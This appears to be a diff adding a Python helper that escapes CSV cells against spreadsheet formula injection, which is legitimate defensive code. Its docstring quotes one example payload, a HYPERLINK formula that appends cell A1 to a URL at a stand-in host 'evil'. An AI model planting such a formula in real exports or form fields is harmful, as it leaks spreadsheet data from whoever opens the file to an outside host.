@@ -1,0 +1,46 @@
+"""Spreadsheet exports that a spreadsheet cannot run (CSV / formula injection).
+
+Excel, LibreOffice and Numbers read a cell that starts with ``=``, ``+``,
+``-``, ``@``, a tab or a carriage return as a formula (OWASP "CSV
+Injection"): a name such as ``=HYPERLINK("http://evil/?"&A1,"点击")`` typed
+at registration would run on the office's machine when the roster is opened.
+``cell(value)`` puts a leading apostrophe before such a text, so the
+spreadsheet shows it as text; every CSV a service writes goes through
+``csv_row`` (or ``writer``). Numbers (int, float) are written as they are,
+including negative ones (they are not text the user typed).
+"""
+import csv
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cell(value):
+    if value is None:
+        return ""
+    if isinstance(value, bool) or not isinstance(value, (int, float)):
+        text = str(value)
+        if text.startswith(FORMULA_STARTS):
+            return "'" + text
+        return text
+    return value
+
+
+def csv_row(values):
+    return [cell(v) for v in values]
+
+
+class _SafeWriter:
+    def __init__(self, inner):
+        self._inner = inner
+
+    def writerow(self, row):
+        return self._inner.writerow(csv_row(row))
+
+    def writerows(self, rows):
+        for row in rows:
+            self.writerow(row)
+
+
+def writer(out, **kwargs):
+    """``csv.writer`` whose every text cell is escaped with ``cell``."""
+    return _SafeWriter(csv.writer(out, **kwargs))
